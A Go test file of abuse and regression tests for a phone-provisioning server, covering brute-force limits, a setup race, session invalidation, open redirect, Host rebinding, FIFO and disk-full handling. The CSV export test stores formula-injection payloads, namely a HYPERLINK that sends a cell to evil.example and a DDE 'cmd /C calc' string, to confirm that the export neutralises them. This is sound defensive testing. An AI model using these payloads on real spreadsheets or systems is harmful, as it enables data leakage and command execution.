package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// The review's findings (review-security.md) 6, 7, 8, 10, 12–21, each
// reproduced against the real binary on loopback (PnP 4–5 and TFTP 9 are
// in abuse_pnp_test.go and abuse_tftp_test.go). Memory (22) is checked at
// the end of the floods.

// clientFrom is an HTTP client whose connections come from ip (any
// 127.0.0.0/8 address is local), with keep-alive.
func clientFrom(ip string) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, MaxIdleConnsPerHost: 4},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

// status sends a request and returns its status (0 when it failed).
func status(t *testing.T, hc *http.Client, method, u, user, pass string, header map[string]string) int {
	t.Helper()
	req, err := http.NewRequest(method, u, nil)
	if err != nil {
		t.Fatal(err)
	}
	if user != "" {
		req.SetBasicAuth(user, pass)
	}
	for k, v := range header {
		req.Header.Set(k, v)
	}
	res, err := hc.Do(req)
	if err != nil {
		return 0
	}
	io.Copy(io.Discard, res.Body)
	res.Body.Close()
	return res.StatusCode
}

// rssMB is the process's resident memory in MB.
func rssMB(t *testing.T, pid int) float64 {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`VmRSS:\s+(\d+) kB`).FindSubmatch(b)
	kb, _ := strconv.Atoi(string(m[1]))
	return float64(kb) / 1024
}

// waitRSS waits up to 60 s for the process to be under 80 MB again (SPEC
// §8: "< 80 MB again 60 s after any abuse test").
func waitRSS(t *testing.T, pid int, what string) {
	t.Helper()
	deadline := time.Now().Add(60 * time.Second)
	for {
		mb := rssMB(t, pid)
		if mb < 80 {
			t.Logf("%s: resident memory %.1f MB", what, mb)
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s: resident memory %.1f MB 60 s after the flood (want < 80)", what, mb)
		}
		time.Sleep(time.Second)
	}
}

// tftpRRQ sends one read request from conn and returns the first answer's
// opcode and text (0 and "" when nothing came within a second).
func tftpRRQ(conn *net.UDPConn, to *net.UDPAddr, name string) (int, string) {
	conn.WriteTo(append(append([]byte{0, 1}, name...), "\x00octet\x00"...), to)
	buf := make([]byte, 1600)
	conn.SetReadDeadline(time.Now().Add(time.Second))
	n, _, err := conn.ReadFrom(buf)
	if err != nil || n < 4 {
		return 0, ""
	}
	return int(buf[1]), string(bytes.TrimRight(buf[4:n], "\x00"))
}

// TestAbuseGuessing: one failure limiter for every secret (SPEC §9;
// findings 6, 7, 8 and 12).
func TestAbuseGuessing(t *testing.T) {
	cfg := emptyConfig(t)
	data := t.TempDir()
	mustCLI(t, "correct-horse-battery\n", "user", "add", "admin", "--password-stdin", "--data", data, "--config", cfg)
	srv := startServe(t, cfg, data)
	a := newAPI(t, srv.url, "admin", "correct-horse-battery")
	a.must("POST", "/api/v1/extensions", map[string]any{"number": "1001", "name": "Alice", "password": "SIPSECRET-alice-9f8e7d"}, 201, nil)
	a.must("POST", "/api/v1/phones", map[string]any{"mac": "001565aabbcc", "model": "T46G", "extension": "1001"}, 201, nil)
	user, secret := a.secret("001565aabbcc")
	phoneURL := srv.url + "/prov/001565aabbcc.cfg"
	phone := clientFrom("127.0.0.60")
	phoneOK := func(when string) {
		t.Helper()
		if st := status(t, phone, "GET", phoneURL, user, secret, nil); st != 200 {
			t.Fatalf("%s: the phone's own fetch got %d", when, st)
		}
	}
	phoneOK("before")
	startRSS := rssMB(t, srv.cmd.Process.Pid)

	t.Run("finding 6: spoofable TFTP misses never block HTTP", func(t *testing.T) {
		to, _ := net.ResolveUDPAddr("udp4", srv.tftp)
		conn, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 50)})
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		for i := range 25 {
			tftpRRQ(conn, to, fmt.Sprintf("0015650000%02x.cfg", i))
		}
		// Each refusal comes twice (from the server's port and the
		// transfer's): drain the rest before asking again.
		for buf := make([]byte, 1600); ; {
			conn.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
			if _, _, err := conn.ReadFrom(buf); err != nil {
				break
			}
		}
		if op, text := tftpRRQ(conn, to, "y000000000028.cfg"); op != 5 || !strings.Contains(text, "too many") {
			t.Fatalf("TFTP after 25 misses: opcode %d %q, want an error saying too many", op, text)
		}
		if st := status(t, clientFrom("127.0.0.50"), "GET", phoneURL, user, secret, nil); st != 200 {
			t.Fatalf("HTTP from the address TFTP refused: %d, want 200", st)
		}
	})

	t.Run("finding 7: API Basic counts, and the form and Basic share the limit", func(t *testing.T) {
		hc := clientFrom("127.0.0.51")
		var codes []int
		start := time.Now()
		for i := range 30 {
			codes = append(codes, status(t, hc, "GET", srv.url+"/api/v1/phones", "admin", fmt.Sprintf("wrong%d", i), nil))
		}
		took := time.Since(start)
		n401 := 0
		for _, c := range codes {
			if c == 401 {
				n401++
			}
		}
		if n401 != 21 || codes[29] != 429 {
			t.Fatalf("30 wrong passwords: %d answered 401 (want 21, the limit is 20 a minute), codes %v", n401, codes)
		}
		t.Logf("30 wrong API passwords in %v: 21 checked, 9 refused with 429", took.Round(time.Millisecond))
		if st := status(t, hc, "GET", srv.url+"/api/v1/phones", "admin", "correct-horse-battery", nil); st != 429 {
			t.Fatalf("right password from the refused address: %d, want 429", st)
		}
		form := url.Values{"username": {"admin"}, "password": {"correct-horse-battery"}}
		res, err := hc.PostForm(srv.url+"/login", form)
		if err != nil || res.StatusCode != 429 || res.Header.Get("Retry-After") == "" {
			t.Fatalf("login form from the refused address: %v %v", res, err)
		}
		res.Body.Close()
		a.must("GET", "/api/v1/phones", nil, 200, nil) // another address
	})

	t.Run("finding 8: wrong /prov/ secrets are throttled and barely logged", func(t *testing.T) {
		hc := clientFrom("127.0.0.52")
		logBefore := len(srv.logs.String())
		counts := map[int]int{}
		start := time.Now()
		for range 2000 {
			counts[status(t, hc, "GET", phoneURL, user, "guess", nil)]++
		}
		took := time.Since(start)
		if counts[401] > 21 || counts[429] < 1979 {
			t.Fatalf("2000 wrong secrets: %v", counts)
		}
		lines := strings.Count(srv.logs.String()[logBefore:], "\n")
		t.Logf("2000 wrong /prov/ secrets in %v: %v; %d log lines", took.Round(time.Millisecond), counts, lines)
		if lines > 40 {
			t.Fatalf("%d log lines for 2000 refused requests", lines)
		}
		phoneOK("after the secret flood")
	})

	t.Run("finding 12: guessing from many addresses meets the global budget", func(t *testing.T) {
		answered, refused := 0, 0
		var mu sync.Mutex
		var wg sync.WaitGroup
		for s := range 100 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				hc := clientFrom(fmt.Sprintf("127.0.1.%d", s+1))
				for g := range 20 {
					st := status(t, hc, "GET", fmt.Sprintf("%s/prov/00156599%02x%02x.cfg", srv.url, s, g), "", "", nil)
					mu.Lock()
					if st == 429 {
						refused++
					} else {
						answered++
					}
					mu.Unlock()
				}
			}()
		}
		wg.Wait()
		t.Logf("100 addresses × 20 guessed MACs: %d answered, %d refused", answered, refused)
		if answered > 500 {
			t.Fatalf("%d of 2000 guesses answered; the global budget should hold it near 300", answered)
		}
		phoneOK("after the distributed guessing")
	})
	waitRSS(t, srv.cmd.Process.Pid, fmt.Sprintf("after the guessing floods (%.1f MB at start)", startRSS))
}

// TestAbuseDiscovered: one address cannot grow the Discovered list without
// bound, and its page and API are paginated (finding 10).
func TestAbuseDiscovered(t *testing.T) {
	cfg := emptyConfig(t)
	data := t.TempDir()
	mustCLI(t, "correct-horse-battery\n", "user", "add", "admin", "--password-stdin", "--data", data, "--config", cfg)
	srv := startServe(t, cfg, data)
	a := newAPI(t, srv.url, "admin", "correct-horse-battery")
	hc := clientFrom("127.0.0.40")
	var wg sync.WaitGroup
	codes := make([]map[int]int, 4)
	start := time.Now()
	for w := range 4 {
		codes[w] = map[int]int{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 1500 {
				mac := fmt.Sprintf("001565%02x%04x", w, i)
				ua := "Yealink SIP-T46G 28.83.0.35 " + mac
				file := mac + ".boot"
				if i%2 == 1 {
					file = "y000000000028.cfg"
				}
				codes[w][status(t, hc, "GET", srv.url+"/prov/"+file, "", "", map[string]string{"User-Agent": ua})]++
			}
		}()
	}
	wg.Wait()
	t.Logf("6000 discovery requests from one address in %v: %v", time.Since(start).Round(time.Millisecond), codes)
	var list []map[string]any
	deadline := time.Now().Add(5 * time.Second)
	total := 0
	for {
		req, _ := http.NewRequest("GET", srv.url+"/api/v1/discovered?limit=10", nil)
		req.SetBasicAuth("admin", "correct-horse-battery")
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		total, _ = strconv.Atoi(res.Header.Get("X-Total-Count"))
		res.Body.Close()
		if total >= 60 || time.Now().After(deadline) {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(500 * time.Millisecond) // anything still queued
	a.must("GET", "/api/v1/discovered?limit=10", nil, 200, &list)
	_, body, _ := a.call("GET", "/api/v1/discovered?limit=1000", nil)
	if len(list) != 10 || total < 1 || total > 60 {
		t.Fatalf("one address: %d discovered (want at most 60), first page %d rows", total, len(list))
	}
	t.Logf("Discovered after the flood: %d rows; API page of 1000: %d bytes", total, len(body))
	a.must("GET", "/api/v1/discovered?limit=100000", nil, 400, nil)
	// Another address still gets its phone listed.
	status(t, clientFrom("127.0.0.41"), "GET", srv.url+"/prov/001565777777.boot", "", "", map[string]string{"User-Agent": "Yealink SIP-T54W 96.86.0.45 00:15:65:77:77:77"})
	waitFor(t, 5*time.Second, "a phone at another address discovered", func() bool {
		var one []map[string]any
		a.must("GET", "/api/v1/discovered?limit=1", nil, 200, &one)
		return len(one) == 1 && one[0]["mac"] == "001565777777"
	})
	waitRSS(t, srv.cmd.Process.Pid, "after the discovery flood")
}

// waitFor polls ok until it holds or timeout passes.
func waitFor(t *testing.T, timeout time.Duration, what string, ok func() bool) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for !ok() {
		if time.Now().After(deadline) {
			t.Fatalf("%s: not within %v", what, timeout)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// TestAbuseSmallHoles: findings 13–17 and 19–21 against serve in process.
func TestAbuseSmallHoles(t *testing.T) {
	cfg := emptyConfig(t)
	data := t.TempDir()
	srv := MustRunMain(t, cfg, data)
	code := regexp.MustCompile(`"setup_code":"([a-z0-9-]+)"`).FindStringSubmatch(srv.logs.String())
	if code == nil {
		t.Fatalf("no setup code in the log:\n%s", srv.logs)
	}

	t.Run("finding 13: the setup code makes one admin", func(t *testing.T) {
		var wg sync.WaitGroup
		var mu sync.Mutex
		made := 0
		for i := range 8 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				form := url.Values{"code": {code[1]}, "username": {fmt.Sprintf("racer%d", i)}, "password": {"a-long-password"}, "password2": {"a-long-password"}}
				hc := clientFrom(fmt.Sprintf("127.0.0.%d", 110+i))
				hc.Timeout = time.Minute // eight bcrypt hashes in a row, slow under -race
				res, err := hc.PostForm(srv.url+"/setup", form)
				if err != nil {
					t.Error(err)
					return
				}
				res.Body.Close()
				if res.StatusCode == 303 && res.Header.Get("Location") == "/" {
					mu.Lock()
					made++
					mu.Unlock()
				}
			}()
		}
		wg.Wait()
		out := mustCLI(t, "", "user", "list", "--data", data, "--config", cfg)
		if made != 1 || strings.Count(out, "racer") != 1 {
			t.Fatalf("%d setups succeeded; admins:\n%s", made, out)
		}
	})
	admin := regexp.MustCompile(`racer\d`).FindString(mustCLI(t, "", "user", "list", "--data", data, "--config", cfg))
	a := newAPI(t, srv.url, admin, "a-long-password")

	t.Run("finding 14: a password change ends sessions and cached logins", func(t *testing.T) {
		jar, _ := cookiejar.New(nil)
		browser := clientFrom("127.0.0.1")
		browser.Jar = jar
		res, err := browser.PostForm(srv.url+"/login", url.Values{"username": {admin}, "password": {"a-long-password"}})
		if err != nil || res.StatusCode != 303 {
			t.Fatalf("login: %v %v", res, err)
		}
		res.Body.Close()
		if st := status(t, browser, "GET", srv.url+"/phones", "", "", nil); st != 200 {
			t.Fatalf("logged in: %d", st)
		}
		a.must("GET", "/api/v1/phones", nil, 200, nil) // cached now
		mustCLI(t, "another-long-password\n", "user", "passwd", admin, "--password-stdin", "--data", data, "--config", cfg)
		if st := status(t, browser, "GET", srv.url+"/phones", "", "", nil); st != 303 {
			t.Fatalf("the old session after the change: %d, want 303 to /login", st)
		}
		if st, _, _ := a.call("GET", "/api/v1/phones", nil); st != 401 {
			t.Fatalf("the old password (cached) after the change: %d, want 401", st)
		}
		a = newAPI(t, srv.url, admin, "another-long-password")
		a.must("GET", "/api/v1/phones", nil, 200, nil)
	})

	t.Run("finding 15: next= stays on this site", func(t *testing.T) {
		hc := clientFrom("127.0.0.1")
		form := url.Values{"username": {admin}, "password": {"another-long-password"}, "next": {"/\t/127.0.0.1:19997/pwned"}}
		res, err := hc.PostForm(srv.url+"/login", form)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if loc := res.Header.Get("Location"); res.StatusCode != 303 || loc != "/" {
			t.Fatalf("%d Location %q", res.StatusCode, loc)
		}
	})

	a.must("POST", "/api/v1/extensions", map[string]any{"number": "1001", "name": "Alice", "password": "SIPSECRET-alice-9f8e7d"}, 201, nil)
	a.must("POST", "/api/v1/phones", map[string]any{"mac": "001565000201", "model": "T46G", "extension": "1001",
		"name": `=HYPERLINK("http://evil.example/?"&A1,"click")`, "description": `+1+cmd|' /C calc'!A0`}, 201, nil)

	t.Run("finding 16: CSV export neutralises formulas", func(t *testing.T) {
		body := string(a.must("GET", "/api/v1/phones.csv", nil, 200, nil))
		if !strings.Contains(body, `"'=HYPERLINK(`) || !strings.Contains(body, `'+1+cmd`) {
			t.Fatalf("export:\n%s", body)
		}
		cli := mustCLI(t, "", "phones", "export", "--data", data, "--config", cfg)
		if !strings.Contains(cli, `"'=HYPERLINK(`) {
			t.Fatalf("CLI export:\n%s", cli)
		}
		// Importing the export changes nothing.
		var res struct{ Added, Updated, Unchanged int }
		a.must("POST", "/api/v1/phones.csv", []byte(body), 200, &res)
		var p struct{ Name string }
		a.must("GET", "/api/v1/phones/001565000201", nil, 200, &p)
		if !strings.HasPrefix(p.Name, "=HYPERLINK") {
			t.Fatalf("after a round trip the name is %q", p.Name)
		}
	})

	t.Run("finding 17: another Host gets 421, and /prov/ no config", func(t *testing.T) {
		// The phone's first fetch (with its secret) closes its claim
		// window; until then any host on the LAN could fetch it anyway.
		u, sec := a.secret("001565000201")
		if st := status(t, clientFrom("127.0.0.1"), "GET", srv.url+"/prov/001565000201.cfg", u, sec, nil); st != 200 {
			t.Fatalf("the phone's fetch: %d", st)
		}
		hc := clientFrom("127.0.0.180")
		h := map[string]string{"Host": "attacker.example:19080"}
		req, _ := http.NewRequest("GET", srv.url+"/api/v1/phones", nil)
		req.Host = h["Host"]
		req.SetBasicAuth(admin, "another-long-password")
		res, err := hc.Do(req)
		if err != nil || res.StatusCode != 421 {
			t.Fatalf("API with a foreign Host: %v %v", res, err)
		}
		res.Body.Close()
		req, _ = http.NewRequest("GET", srv.url+"/prov/001565000201.cfg", nil)
		req.Host = h["Host"]
		res, err = hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode != 401 || bytes.Contains(b, []byte("SIPSECRET")) {
			t.Fatalf("/prov/ through a rebound name: %d %s", res.StatusCode, b)
		}
	})

	t.Run("finding 19: a FIFO in firmware/ is refused at once", func(t *testing.T) {
		fw := filepath.Join(data, "firmware")
		os.MkdirAll(fw, 0o700)
		if err := syscall.Mkfifo(filepath.Join(fw, "fifo.rom"), 0o600); err != nil {
			t.Fatal(err)
		}
		start := time.Now()
		if st := status(t, clientFrom("127.0.0.1"), "GET", srv.url+"/prov/fifo.rom", "", "", nil); st != 404 || time.Since(start) > 3*time.Second {
			t.Fatalf("FIFO: %d after %v", st, time.Since(start))
		}
	})

	t.Run("finding 20: an error quotes at most 100 characters", func(t *testing.T) {
		huge := bytes.Repeat([]byte("a"), 12_000_000)
		st, body, err := a.call("POST", "/api/v1/phones.csv", huge)
		if err != nil || st != 400 || len(body) > 1000 {
			t.Fatalf("12 MB header: %d, %d-byte answer: %.200s %v", st, len(body), body, err)
		}
	})

	t.Run("finding 21: a 100 kB search term gets 400", func(t *testing.T) {
		st, body, _ := a.call("GET", "/api/v1/keys?q="+strings.Repeat("a", 100000), nil)
		if st != 400 || !bytes.Contains(body, []byte("too long")) {
			t.Fatalf("%d %.200s", st, body)
		}
		if st, _, _ := a.call("GET", "/api/v1/phones?q="+strings.Repeat("a", 257), nil); st != 400 {
			t.Fatalf("phones search of 257: %d", st)
		}
	})

	start := time.Now()
	srv.close()
	if d := time.Since(start); d > 4*time.Second {
		t.Fatalf("stopping took %v (a FIFO left hanging?)", d)
	}
}

// TestAbuseDiskFull: with the disk full, writes answer 507 with the
// reason, reads go on, /healthz says 503, and all recovers without a
// restart when space returns (finding 18). Needs root for a small tmpfs.
func TestAbuseDiskFull(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to mount a small tmpfs")
	}
	dir := t.TempDir()
	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size=6m", "tmpfs", dir).CombinedOutput(); err != nil {
		t.Skipf("cannot mount a tmpfs: %v %s", err, out)
	}
	t.Cleanup(func() { exec.Command("umount", "-l", dir).Run() })
	cfg := emptyConfig(t)
	data := filepath.Join(dir, "data")
	mustCLI(t, "correct-horse-battery\n", "user", "add", "admin", "--password-stdin", "--data", data, "--config", cfg)
	srv := MustRunMain(t, cfg, data)
	a := newAPI(t, srv.url, "admin", "correct-horse-battery")
	a.must("POST", "/api/v1/extensions", map[string]any{"number": "1001", "name": "Alice", "password": "SIPSECRET-alice-9f8e7d"}, 201, nil)

	var csv strings.Builder
	csv.WriteString("mac,name,description,model,position,key_type,key_value,key_label\n")
	for i := range 1000 {
		fmt.Fprintf(&csv, "0015650%05x,Phone %d,%s,T46G,1,account,1001,\n", i, i, strings.Repeat("d", 60))
		fmt.Fprintf(&csv, "0015650%05x,,,T46G,2,speed_dial,%d,Speed dial %d\n", i, 2000+i, i)
	}
	health := func() (int, string) {
		res, err := http.Get(srv.url + "/healthz")
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(b)
	}
	if st, _ := health(); st != 200 {
		t.Fatalf("healthz before: %d", st)
	}
	filler := filepath.Join(dir, "filler")
	f, err := os.Create(filler)
	if err != nil {
		t.Fatal(err)
	}
	w := bufio.NewWriter(f)
	chunk := bytes.Repeat([]byte{0}, 64<<10)
	for {
		if _, err := w.Write(chunk); err != nil {
			break
		}
	}
	f.Close()

	st, body, _ := a.call("POST", "/api/v1/phones.csv", []byte(csv.String()))
	if st != 507 || !bytes.Contains(body, []byte("cannot be written")) {
		t.Fatalf("import with the disk full: %d %s", st, body)
	}
	t.Logf("import with the disk full: %d %s", st, bytes.TrimSpace(body))
	var phones []map[string]any
	a.must("GET", "/api/v1/phones", nil, 200, &phones) // reads go on
	if len(phones) != 0 {
		t.Fatalf("half an import stayed behind: %d phones", len(phones))
	}
	if st, text := health(); st != 503 || !strings.Contains(text, "disk full") {
		t.Fatalf("healthz with the disk full: %d %q", st, text)
	} else {
		t.Logf("healthz with the disk full: %d %s", st, strings.TrimSpace(text))
	}
	os.Remove(filler)
	waitFor(t, 5*time.Second, "healthz ok again", func() bool { st, _ := health(); return st == 200 })
	a.must("POST", "/api/v1/phones.csv", []byte(csv.String()), 200, nil)
	a.must("GET", "/api/v1/phones", nil, 200, &phones)
	if len(phones) != 1000 {
		t.Fatalf("after recovery: %d phones", len(phones))
	}
	if !strings.Contains(srv.logs.String(), "the database can be written again") {
		t.Error("recovery not logged")
	}
}
